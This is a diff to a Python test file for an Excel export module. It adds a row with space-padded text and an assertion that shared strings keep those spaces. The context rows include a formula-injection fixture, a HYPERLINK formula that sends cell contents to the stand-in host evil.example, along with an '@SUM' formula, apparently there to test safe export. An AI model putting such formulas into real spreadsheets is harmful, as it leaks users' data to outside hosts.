@@ -30,6 +30,7 @@ ROWS = [
     ["3", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", -7, datetime(2021, 12, 1, 9, 0), 1.0, " с пробелами ", False],
     ["4", "#N/A", 2.5, None, 0, "a & b < c > d\r\nвторая строка", None],
     ["5", "", None, None, None, "@SUM(1)", None],
+    ["6", "  пробелы по краям ", 1, None, None, None, None],  # a shared text's spaces kept (xml:space)
     ["1", "МАДОУ № 1 «Солнышко»", 3, datetime(2021, 11, 30, 23, 59), 0.25, "текст", True],  # remembered cells again
 ]
 FORMATS = {4: excel.DATETIME, 5: excel.PERCENT}
@@ -79,6 +80,7 @@ def test_texts_are_shared_once_but_free_text_stays_inline():
     assert ' r="B2"' not in rows and 't="n"' not in rows  # no cell reference, no default type below the header
     assert table.count("МАДОУ № 1 «Солнышко»") == 1 and rows.count('t="s"') >= 10  # the name once, its cells by index
     assert "текст" not in table and "текст" in rows  # column 6 is free text: inline, not in the table
+    assert '<si><t xml:space="preserve">  пробелы по краям </t></si>' in table  # Excel keeps the spaces (openpyxl would anyway)
 
 
 def test_the_plan_makes_the_same_sheet_as_the_values_it_stands_for():
